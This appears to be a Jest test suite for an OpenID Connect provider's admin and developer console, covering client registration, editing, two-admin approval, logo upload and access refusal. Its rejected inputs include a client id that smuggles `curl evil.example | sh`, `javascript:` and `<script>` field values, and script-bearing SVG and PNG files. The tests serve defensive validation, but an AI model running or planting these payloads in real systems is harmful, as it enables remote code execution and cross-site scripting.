/** The console's pages for clients: registered, changed, approved, owned, tried; and what is refused there. */
import { crc32 } from 'node:zlib';
import { afterAll, beforeAll, describe, expect, it } from '@jest/globals';
import { PNG } from 'pngjs';
import type { Role } from '../../provider/core/account.ts';
import { COMMAND_LINE } from '../../provider/core/actor.ts';
import type { ClientRecord } from '../../provider/core/client-record.ts';
import { logoFault } from '../../provider/core/logo.ts';
import { Citizen } from '../support/citizen.ts';
import { startKapu, type TestKapu } from '../support/kapu.ts';
import { Machine } from '../support/machine.ts';
import { Portal } from '../support/portal.ts';
import { MINUTES, SECONDS, travel } from '../support/time.ts';
import { useKapu } from '../support/use-kapu.ts';

let kapu: TestKapu;
let anna: Citizen;

useKapu(async (started) => {
  kapu = started;
  anna = await admin(kapu);
});

async function admin(at: TestKapu): Promise<Citizen> {
  return staff(at, 'admin');
}

async function staff(at: TestKapu, role: Role): Promise<Citizen> {
  const born = await Citizen.staff(at, role);
  await born.comesHome('/admin');
  return born;
}

/** Time goes on in the life of a person: a code is good once. */
async function opens(who: Citizen, path: string): Promise<void> {
  travel(31 * SECONDS);
  await who.browser.open(path);
  if (who.browser.page.path.startsWith('/interaction/')) await who.goesThrough(path);
}

/** Opens a client's page by way of one that asks for a fresh login: what is done there takes one. */
async function opensFresh(who: Citizen, id: string): Promise<void> {
  await opens(who, `/admin/clients/${id}/edit`);
  await who.browser.open(`/admin/clients/${id}`);
}

const NEW = {
  name_hu: 'Új portál',
  name_en: 'New portal',
  redirect_uris: 'https://portal.example.hu/callback',
  level: 'substantial',
  scope_profile: 'yes',
  reason_profile: 'megszólítás',
  scope_email: 'yes',
};
const LOCAL = { ...NEW, redirect_uris: 'http://localhost:4000/callback' };

async function registers(who: Citizen, fields: Record<string, string> = {}, kind = 'web') {
  await opens(who, `/admin/new-client/${kind}`);
  const { id = '' } = who.browser.form(`/${kind}`).fields;
  await who.browser.submit(`/new-client/${kind}`, { ...NEW, ...fields });
  const secret = /class="secret">([\w-]{43})</.exec(who.browser.page.html)?.[1];
  return { id, secret };
}

const recordOf = async (id: string, at = kapu) => (await at.clients.record(id)) as ClientRecord;

describe('an admin', () => {
  it('registers a client that logs a citizen in; its secret is shown once and stored nowhere', async () => {
    const { id, secret } = await registers(anna);
    expect(anna.browser.page.status).toBe(200);
    const portal = await Portal.of(kapu, id, secret);
    const citizen = await Citizen.born(kapu, { enrolled: true });
    await expect(citizen.logsIn(portal)).resolves.toMatchObject({ token_type: 'bearer' });
    await opensFresh(anna, id);
    expect(anna.browser.page.html).not.toContain(secret);
    expect(JSON.stringify(anna.browser.agent.jar)).not.toContain(secret);
    expect(kapu.logged()).not.toContain(secret);
    expect(await recordOf(id)).toMatchObject({ reasons: { profile: 'megszólítás' }, owners: [] });
  });

  it('makes a program of the Admin API for clients, takes a right back, and gives none over citizens', async () => {
    const boxes = { admin_clients_read: 'yes', admin_clients_write: 'yes', admin_accounts_read: 'yes' };
    const letters = { admin_letters_read: 'yes' };
    const { id, secret = '' } = await registers(
      anna,
      { ...boxes, ...letters, auth_method: 'client_secret_post' },
      'machine',
    );
    expect((await recordOf(id)).metadata.admin_scopes).toEqual([
      'clients:read',
      'clients:write',
      'letters:read',
    ]);
    const scope = 'clients:read clients:write';
    const asked = { grant_type: 'client_credentials', scope, client_id: id, client_secret: secret };
    const answer = await fetch(`${kapu.issuer}/token`, { method: 'POST', body: new URLSearchParams(asked) });
    const { access_token } = (await answer.json()) as { access_token: string };
    const sees = async (path: string) => {
      const headers = { authorization: `Bearer ${access_token}` };
      return (await fetch(`${kapu.issuer}/admin/api/v1${path}`, { headers })).status;
    };
    expect([await sees(`/clients/${id}`), await sees('/accounts')]).toEqual([200, 403]);

    const record = await recordOf(id);
    const metadata = { ...record.metadata, admin_scopes: ['clients:read', 'history:read'] };
    const given = { state: { metadata }, basedOn: record.revision };
    await kapu.clientChanges.edit(id, given, { by: COMMAND_LINE });
    await opens(anna, `/admin/clients/${id}/edit`);
    await anna.browser.submit('/edit', { admin_clients_write: 'yes', admin_clients_read: '' });
    expect((await recordOf(id)).metadata.admin_scopes).toEqual(['clients:write', 'history:read']);
    expect(await sees(`/clients/${id}`)).toBe(403);
    await opens(anna, `/admin/clients/${id}`);
    expect(anna.browser.text).toContain('Admin API jogosultságai');
  });

  it('makes an interface that others ask tokens for, by its address and its scopes, and changes these', async () => {
    const address = 'https://ugyek.example.hu/api';
    const lines = 'cases:read | ügyek megtekintése | see cases\r\ncases:write|ügyek intézése|handle cases';
    const wanted = { auth_method: 'client_secret_post', resource_scopes: lines };
    await registers(anna, wanted, 'machine');
    expect(anna.browser.page.html).toContain('id="resource_address-error"');
    await registers(
      anna,
      { ...wanted, resource_address: address, resource_scopes: 'cases:read | ügyek' },
      'machine',
    );
    expect(anna.browser.page.html).toContain('id="resource_scopes-error"');
    await registers(anna, { ...wanted, resource_address: address }, 'machine');
    const { metadata } = await recordOf(address);
    expect(metadata).toMatchObject({
      grant_types: [],
      resource_scopes: {
        'cases:read': { hu: 'ügyek megtekintése', en: 'see cases' },
        'cases:write': { hu: 'ügyek intézése', en: 'handle cases' },
      },
    });

    await opens(anna, `/admin/clients/${encodeURIComponent(address)}/edit`);
    expect(anna.browser.form('/edit').fields).not.toHaveProperty('resource_address');
    const [, resource_scopes = ''] = /id="resource_scopes"[^>]*>\n([^<]*)/.exec(anna.browser.page.html) ?? [];
    expect(resource_scopes.trim().split('\n')[1]).toBe('cases:write | ügyek intézése | handle cases');
    await anna.browser.submit('/edit', { resource_scopes: resource_scopes.trim().split('\n')[0] ?? '' });
    expect(Object.keys((await recordOf(address)).metadata.resource_scopes ?? {})).toEqual(['cases:read']);
  });

  it('who sends the form twice registers once', async () => {
    await opens(anna, '/admin/new-client/web');
    const { fields } = anna.browser.form('/new-client/web');
    await anna.browser.post('/admin/new-client/web', { ...fields, ...NEW });
    await anna.browser.post('/admin/new-client/web', { ...fields, ...NEW });
    expect(anna.browser.page.status).toBe(422);
    expect(await recordOf(String(fields.id))).toMatchObject({ revision: 1 });
  });

  it.each([
    ['redirect_uris', { redirect_uris: 'http://portal.example.hu/cb' }],
    ['redirect_uris', { redirect_uris: '' }],
    ['redirect_uris', { redirect_uris: 'javascript:alert(1)' }],
    ['contacts', { contacts: 'nobody' }],
    ['name_hu', { name_hu: '<script>alert(1)</script>' }],
    ['name_en', { name_en: '' }],
    ['allowed_claims', { allowed_claims: 'tax_number' }],
    ['jwks', { jwks: 'no keys' }],
    ['jwks', { jwks: '{"keys":[{"kty":"EC","crv":"P-256","d":"secret"}]}' }],
    ['sector_identifier_uri', { redirect_uris: 'https://a.example.hu/cb https://b.example.hu/cb' }],
  ])('is told beside the field %s what is wrong, and keeps what was typed: %j', async (field, typed) => {
    const { id } = await registers(anna, { ...typed, client_uri: 'https://kept.example.hu' });
    expect(anna.browser.page.status).toBe(422);
    expect(anna.browser.page.html).toContain(`id="${field}-error"`);
    expect(anna.browser.page.html).toContain('https://kept.example.hu');
    expect(anna.browser.page.html).not.toContain('<script>alert');
    expect(await kapu.clients.record(id)).toBeUndefined();
  });

  it('says that addresses on several hosts need a sector, not only that something is empty', async () => {
    await registers(anna, { redirect_uris: 'https://a.example.hu/cb https://b.example.hu/cb' });
    expect(anna.browser.text).toContain('A visszatérési címek több gépen vannak: adja meg a szektor címét.');
  });

  it('whose login grows old over a long form finds it as it was typed, once, and sealed in the store', async () => {
    const { browser } = anna;
    await opens(anna, '/admin/new-client/web');
    travel(6 * MINUTES);
    await browser.submit('/new-client/web', {
      ...NEW,
      name_hu: 'Sokáig írt űrlap',
      contacts: 'hosszu@example.hu',
    });
    expect(browser.text).toContain('újra elküldheti');
    travel(31 * SECONDS);
    await anna.goesThrough('/admin/new-client/web');
    expect(browser.text).toContain('Amit beírt, megmaradt');
    for (const kept of ['Sokáig írt űrlap', 'hosszu@example.hu', 'megszólítás', NEW.redirect_uris])
      expect(browser.page.html).toContain(kept);
    await browser.submit('/new-client/web', { redirect_uris: NEW.redirect_uris });
    expect(browser.page.html).toContain('class="secret"');
    await browser.open('/admin/new-client/web');
    expect(browser.page.html).not.toContain('Sokáig írt űrlap');
  });

  it('who comes second with an edit sees the difference and loses nothing', async () => {
    const { id } = await registers(anna);
    const bela = await admin(kapu);
    const path = `/admin/clients/${id}/edit`;
    await opens(anna, path);
    await opens(bela, path);
    const all = { ...NEW, scope_profile: 'yes', scope_email: 'yes' };
    await anna.browser.submit('/edit', { ...all, client_uri: 'https://first.example.hu' });
    await bela.browser.submit('/edit', { ...all, name_en: 'Second name' });
    expect(bela.browser.page.status).toBe(422);
    expect(bela.browser.text).toContain('https://first.example.hu');
    await bela.browser.submit('/edit', {
      ...all,
      name_en: 'Second name',
      client_uri: 'https://first.example.hu',
    });
    expect((await recordOf(id)).metadata).toMatchObject({
      client_uri: 'https://first.example.hu',
      'client_name#en': 'Second name',
    });
  });

  it('disables, enables, gives a secret, restores, copies and removes', async () => {
    const { id } = await registers(anna);
    const page = `/admin/clients/${id}`;
    await opensFresh(anna, id);
    await anna.browser.submit('/disable', { why: 'incident' });
    expect(await recordOf(id)).toMatchObject({ status: 'disabled' });
    expect(anna.browser.text).toMatch(/Állapot Ez volt: éles Ez lett: letiltva/);
    await anna.browser.submit('/enable');
    await anna.browser.submit('/issue-secret', { hours: '24' });
    expect(anna.browser.page.html).toMatch(/class="secret">[\w-]{43}</);
    await opensFresh(anna, id);
    await anna.browser.post(`${page}/restore`, { ...anna.browser.form('/restore').fields, version: '1' });
    expect(await recordOf(id)).toMatchObject({ revision: 5, status: 'active' });
    await opens(anna, `${page}/copy`);
    expect(anna.browser.page.html).toContain('value="New portal"');
    await opensFresh(anna, id);
    await anna.browser.submit('/remove', { confirm: 'something else' });
    expect(anna.browser.page.status).toBe(422);
    await anna.browser.submit('/remove', { confirm: id });
    expect(await kapu.clients.record(id)).toBeUndefined();
  });

  it('finds clients by name, id and address, in an order', async () => {
    await registers(anna, { name_hu: 'Árvíztűrő portál' });
    await opens(anna, '/admin/clients?q=%C3%A1rv%C3%ADzt%C5%B1r%C5%91&sort=changed');
    expect(anna.browser.page.html.match(/<li/g)?.length).toBeGreaterThan(0);
    expect(anna.browser.text).toContain('Árvíztűrő portál');
    expect(anna.browser.text).not.toContain('Új portál');
  });

  it('issues and withdraws an initial access token', async () => {
    await opens(anna, '/admin/new-client/web');
    await anna.browser.open('/admin/tokens');
    await anna.browser.submit('/tokens', { hosts: 'portal.example.hu', hours: '24', level: 'substantial' });
    expect(anna.browser.page.html).toMatch(/class="secret">[\w-]+</);
    await anna.browser.open('/admin/tokens');
    await anna.browser.submit('/withdraw');
    expect(await kapu.initialAccess.list()).toEqual([]);
  });
});

describe('a logo', () => {
  const png = (side: number) => PNG.sync.write(new PNG({ width: side, height: side }));
  function textChunk(text: string): Buffer {
    return chunk(Buffer.from(`tEXt${text}`));
  }
  function header(side: number): Buffer {
    const data = Buffer.from('IHDR\0\0\0\0\0\0\0\0\x08\x06\0\0\0', 'latin1');
    data.writeUInt32BE(side, 4);
    data.writeUInt32BE(side, 8);
    return chunk(data);
  }
  /** `data` with its name, between its length and its checksum. */
  function chunk(data: Buffer): Buffer {
    const [length, check] = [Buffer.alloc(4), Buffer.alloc(4)];
    length.writeUInt32BE(data.length - 4);
    check.writeUInt32BE(crc32(data));
    return Buffer.concat([length, data, check]);
  }

  async function uploads(id: string, file: Buffer, name: string) {
    await opensFresh(anna, id);
    const { fields } = anna.browser.form('/logo');
    const request = anna.browser.agent
      .post(`/admin/clients/${id}/logo`)
      .set({ origin: kapu.issuer })
      .redirects(0)
      .ok(() => true);
    for (const [key, value] of Object.entries(fields)) if (key !== 'file') request.field(key, value);
    return (await request.attach('file', file, name)).status;
  }

  it('is made anew, served from here for good, and shown where people log in', async () => {
    const { id, secret } = await registers(anna);
    const hidden = Buffer.concat([png(32).subarray(0, 33), textChunk('<script>'), png(32).subarray(33)]);
    expect(await uploads(id, hidden, 'logo.png')).toBe(303);
    const address = String((await recordOf(id)).metadata.logo_uri);
    const served = await anna.browser.agent.get(new URL(address).pathname);
    expect(served.headers).toMatchObject({ 'content-type': 'image/png' });
    expect(served.headers['cache-control']).toContain('immutable');
    expect((served.body as Buffer).includes('script')).toBe(false);
    const citizen = await Citizen.born(kapu, { enrolled: true });
    await citizen.goesTo(await Portal.of(kapu, id, secret));
    expect(citizen.browser.page.html).toContain(`src="${new URL(address).pathname}"`);
    await opensFresh(anna, id);
    await anna.browser.submit('/remove-logo', { why: 'új arculat' });
    expect((await recordOf(id)).metadata.logo_uri).toBeUndefined();
    expect((await anna.browser.agent.get(new URL(address).pathname)).status).toBe(200);
  });

  it.each([
    ['an SVG with a script', Buffer.from('<svg xmlns="http://www.w3.org/2000/svg"><script>1</script></svg>')],
    ['a PNG too large', png(513)],
    ['a broken PNG', png(32).subarray(0, 60)],
    ['more than a form may hold', Buffer.alloc(400_000)],
  ])('that is %s is refused, and nothing changes', async (_what, file) => {
    const { id } = await registers(anna);
    expect([413, 422]).toContain(await uploads(id, file, 'logo.png'));
    expect((await recordOf(id)).metadata.logo_uri).toBeUndefined();
  });

  it('that has a second, larger header is refused before memory is taken for it', () => {
    const row = PNG.sync.write(new PNG({ width: 600, height: 1 }));
    const file = Buffer.concat([png(32).subarray(0, 33), header(600), row.subarray(33)]);
    expect(logoFault(file)).toBe('logo-broken');
  });
});

describe("the portals' own people", () => {
  it('come from nothing to a working login the same day, and nobody real but them gets in', async () => {
    const developer = await Citizen.born(kapu, { enrolled: true });
    await opens(developer, '/account/new-client/web');
    const { id = '' } = developer.browser.form('/new-client/web').fields;
    await developer.browser.submit('/new-client/web', LOCAL);
    const secret = /class="secret">([\w-]{43})</.exec(developer.browser.page.html)?.[1];
    expect((await developer.browser.open('/account')).html).toContain('href="/account/clients"');
    const portal = await Portal.of(kapu, id, secret);
    const local = { redirect_uri: 'http://localhost:4000/callback' };
    travel(31 * SECONDS);
    await expect(developer.logsIn(portal, local)).resolves.toMatchObject({ token_type: 'bearer' });

    const victim = await Citizen.born(kapu, { enrolled: true });
    await victim.goesTo(portal, local);
    await victim.goesThrough();
    expect(victim.browser.page.left).toContain('error=access_denied');
    const person = await Citizen.born(kapu, { enrolled: true });
    await person.becomes({ test: true });
    await expect(person.logsIn(portal, local)).resolves.toMatchObject({ token_type: 'bearer' });
  });

  it('can’t register one for real people, nor see, edit or take over what is not theirs', async () => {
    const { id } = await registers(anna);
    const developer = await Citizen.born(kapu, { enrolled: true });
    await opens(developer, '/account/new-client/web');
    await developer.browser.submit('/new-client/web', { ...NEW, first_party: 'yes', test: '' });
    expect(developer.browser.page.status).toBe(422);
    expect(developer.browser.page.html).toContain('id="redirect_uris-error"');
    for (const path of [`/account/clients/${id}`, `/account/clients/${id}/edit`]) {
      await developer.browser.open(path);
      expect(developer.browser.page.status).toBe(404);
    }
    for (const path of ['/admin/clients', `/admin/clients/${id}`, '/admin/new-client/web', '/admin/tokens']) {
      await developer.browser.open(path);
      expect(developer.browser.page.status).toBe(403);
    }
  });

  it('can’t take the place of a client that was removed, nor an id that is code where it is pasted', async () => {
    const { id } = await registers(anna);
    await opensFresh(anna, id);
    await anna.browser.submit('/remove', { confirm: id });
    expect(await kapu.clients.record(id)).toBeUndefined();
    const developer = await Citizen.born(kapu, { enrolled: true });
    for (const taken of [id, `x'; curl evil.example | sh #`, 'kapu-account', 'try:demo']) {
      await opens(developer, '/account/new-client/web');
      await developer.browser.submit('/new-client/web', { ...LOCAL, id: taken });
      expect(developer.browser.page.status).toBe(422);
    }
    expect(await kapu.clients.ownedBy(developer.accountId)).toEqual([]);
  });

  it('propose what an admin approves, and never decide on it themselves', async () => {
    const owner = await Citizen.born(kapu, { enrolled: true });
    const { id } = await registers(anna);
    await opensFresh(anna, id);
    await anna.browser.submit('/owners', { owners: owner.username });
    await opens(owner, `/account/clients/${id}/edit`);
    await owner.browser.submit('/edit', { ...NEW, name_en: 'Proposed' });
    expect(await recordOf(id)).toMatchObject({ metadata: { 'client_name#en': 'New portal' } });
    await opensFresh(anna, id);
    expect(anna.browser.text).toContain('Proposed');
    await anna.browser.submit('/approve');
    expect(await recordOf(id)).toMatchObject({ metadata: { 'client_name#en': 'Proposed' } });
    expect((await recordOf(id)).proposal).toBeUndefined();
  });

  it('have a few test clients and no more', async () => {
    const developer = await Citizen.born(kapu, { enrolled: true });
    for (let count = 0; count < 6; count += 1) {
      await opens(developer, '/account/new-client/app');
      await developer.browser.submit('/new-client/app', LOCAL);
    }
    expect(developer.browser.page.status).toBe(422);
    expect(await kapu.clients.ownedBy(developer.accountId)).toHaveLength(5);
  });
});

describe('an operator', () => {
  it('who tries what is an admin’s is refused, and it is on record', async () => {
    const operator = await staff(kapu, 'operator');
    await operator.browser.open('/admin/clients');
    expect(operator.browser.page.status).toBe(403);
    const [event] = await kapu.history.of(operator.accountId, 1);
    expect(event).toMatchObject({ kind: 'access-refused' });
  });

  it('an admin whose login is some minutes old proves who they are before the form, not after it', async () => {
    travel(6 * MINUTES);
    await anna.browser.open('/admin/new-client/web');
    expect(anna.browser.page.path).toMatch(/^\/interaction\//);
  });
});

describe('with four eyes', () => {
  let strict: TestKapu;
  let one: Citizen;
  let other: Citizen;
  beforeAll(async () => {
    strict = await startKapu({ variables: { CLIENT_APPROVAL: 'two-admins' } });
    [one, other] = [await admin(strict), await admin(strict)];
  });
  afterAll(() => strict.stop());

  async function approved(): Promise<string> {
    const { id } = await registers(one);
    await opensFresh(other, id);
    await other.browser.submit('/approve');
    return id;
  }

  it('a new client works when another admin has approved it, and not before', async () => {
    const { id } = await registers(one);
    expect(await recordOf(id, strict)).toMatchObject({
      status: 'disabled',
      proposal: { kind: 'registration' },
    });
    await opensFresh(one, id);
    expect(one.browser.hasForm('/approve')).toBe(false);
    const { fields } = one.browser.form('/reject');
    for (const act of ['approve', 'enable']) {
      await one.browser.post(`/admin/clients/${id}/${act}`, fields);
      expect(one.browser.page.status).toBe(422);
    }
    expect(await strict.clients.find(id)).toBeUndefined();
    await opensFresh(other, id);
    await other.browser.submit('/approve');
    expect(await recordOf(id, strict)).toMatchObject({ status: 'active' });
  });

  it('an edit, a restore and a removal wait too; disabling does not', async () => {
    const id = await approved();
    await opens(one, `/admin/clients/${id}/edit`);
    await one.browser.submit('/edit', { ...NEW, name_en: 'Changed' });
    expect(await recordOf(id, strict)).toMatchObject({ metadata: { 'client_name#en': 'New portal' } });
    await opensFresh(one, id);
    await one.browser.submit('/remove', { confirm: id });
    expect(await recordOf(id, strict)).toMatchObject({ proposal: { kind: 'removal' } });
    await one.browser.submit('/disable');
    expect(await recordOf(id, strict)).toMatchObject({ status: 'disabled' });
    await opensFresh(other, id);
    await other.browser.submit('/approve');
    expect(await strict.clients.record(id)).toBeUndefined();
  });

  it('a program proposes and takes back, and is nobody’s second pair of eyes', async () => {
    const machine = await Machine.join(strict, ['clients:read', 'clients:write']);
    const metadata = { redirect_uris: ['https://portal.example.hu/callback'], client_name: 'Új' };
    const tagOf = async (id: string) =>
      String((await machine.ask('GET', `/clients/${id}`)).headers.get('etag'));
    const decide = async (id: string, act: string, json = {}) =>
      (
        await machine.ask('POST', `/clients/${id}/proposal/${act}`, {
          json,
          headers: { 'if-match': await tagOf(id) },
        })
      ).status;
    const made = await machine.ask('POST', '/clients', { json: { metadata } });
    expect(made.body).toMatchObject({ status: 'disabled', waiting: true });
    const id = String(made.body.client_id);
    const { id: ofAdmin } = await registers(one);
    for (const waiting of [id, ofAdmin]) expect(await decide(waiting, 'approve')).toBe(403);
    expect(await decide(ofAdmin, 'decline', { why: 'kettős' })).toBe(204);
    await opensFresh(other, id);
    await other.browser.submit('/approve');
    await machine.token();
    const removal = await machine.ask('DELETE', `/clients/${id}`, {
      headers: { 'if-match': await tagOf(id) },
    });
    expect([removal.status, removal.body.waiting]).toEqual([202, true]);
    expect(await decide(id, 'decline')).toBe(204);
    expect(await recordOf(id, strict)).toMatchObject({ status: 'active' });
  });

  it('nobody comes around the approval of a new client by proposing its removal, which its maker needs nobody for', async () => {
    const { id } = await registers(one);
    const removal = { confirm: id, why: '' };
    const doing = { by: { kind: 'account', id: other.accountId, name: 'other' } } as const;
    expect(await strict.clientChanges.remove(id, doing)).toMatchObject({ because: 'proposal-waiting' });
    await opensFresh(one, id);
    const { fields } = one.browser.form('/remove');
    await one.browser.post(`/admin/clients/${id}/remove`, { ...fields, ...removal });
    await one.browser.post(`/admin/clients/${id}/enable`, fields);
    expect(await strict.clients.find(id)).toBeUndefined();
    expect(await strict.clients.record(id)).toBeUndefined();
  });

  it('nobody approves what a program proposed whose secret they were given', async () => {
    const machine = await Machine.join(strict, ['clients:read', 'clients:write']);
    const program = machine.software.clientId;
    const id = await approved();
    await opensFresh(one, program);
    await one.browser.submit('/issue-secret', { hours: '1' });
    const { headers } = await machine.ask('GET', `/clients/${id}`);
    const wanted = { ...(await recordOf(id, strict)).metadata, 'client_name#en': 'By a program' };
    const seen = { 'if-match': String(headers.get('etag')) };
    await machine.ask('PUT', `/clients/${id}`, { json: { metadata: wanted }, headers: seen });
    expect((await recordOf(id, strict)).proposal?.by).toMatchObject({ kind: 'client', id: program });
    for (const [who, name] of [
      [one, 'New portal'],
      [other, 'By a program'],
    ] as const) {
      await opensFresh(who, id);
      await who.browser.submit('/approve');
      expect(await recordOf(id, strict)).toMatchObject({ metadata: { 'client_name#en': name } });
    }
  });

  it('a secret of a program with rights over people works when another admin has approved it, and not before', async () => {
    const machine = await Machine.join(strict, ['accounts:write']);
    const program = machine.software.clientId;
    await opensFresh(one, program);
    await one.browser.submit('/issue-secret', { hours: '1' });
    const secret = /class="secret">([\w-]{43})</.exec(one.browser.page.html)?.[1] ?? '';
    expect(one.browser.text).toContain('másik rendszergazda jóváhagyta');
    const opened = async () => {
      const headers = { authorization: `Basic ${btoa(`${program}:${secret}`)}` };
      const body = new URLSearchParams({ grant_type: 'client_credentials', scope: 'accounts:write' });
      return (await fetch(`${strict.issuer}/token`, { method: 'POST', headers, body })).status;
    };
    expect(await opened()).toBe(401);
    await opensFresh(one, program);
    expect(one.browser.hasForm('/approve')).toBe(false);
    await opensFresh(other, program);
    await other.browser.submit('/approve');
    expect(await opened()).toBe(200);
    await machine.token();
  });

  it('of two proposals in one millisecond only the one that was looked at can be approved', async () => {
    const id = await approved();
    const doing = { by: { kind: 'account', id: one.accountId, name: 'one' } } as const;
    const proposes = async (name: string) => {
      const { metadata, revision } = await recordOf(id, strict);
      const state = { metadata: { ...metadata, 'client_name#en': name } };
      await strict.clientChanges.edit(id, { state, basedOn: revision }, doing);
    };
    await opensFresh(other, id);
    await proposes('Looked at');
    await other.browser.open(`/admin/clients/${id}`);
    await proposes('Put in its place');
    await other.browser.submit('/approve');
    expect(other.browser.page.status).toBe(422);
    expect(await recordOf(id, strict)).toMatchObject({ metadata: { 'client_name#en': 'New portal' } });
  });

  it('a rejection says why, and what changed under the approver’s eyes is not approved', async () => {
    const id = await approved();
    await opens(one, `/admin/clients/${id}/edit`);
    await one.browser.submit('/edit', { ...NEW, name_en: 'Changed' });
    await opensFresh(other, id);
    await opens(one, `/admin/clients/${id}/edit`);
    await one.browser.submit('/edit', { ...NEW, name_en: 'Changed again' });
    await other.browser.submit('/approve');
    expect(other.browser.page.status).toBe(422);
    await other.browser.submit('/reject');
    expect(other.browser.page.status).toBe(422);
    await other.browser.submit('/reject', { why: 'not this name' });
    expect((await recordOf(id, strict)).proposal).toBeUndefined();
    const [version] = await strict.clients.versions(id, { limit: 1 });
    expect(version?.version).toMatchObject({ act: 'rejected', why: 'not this name' });
  });
});
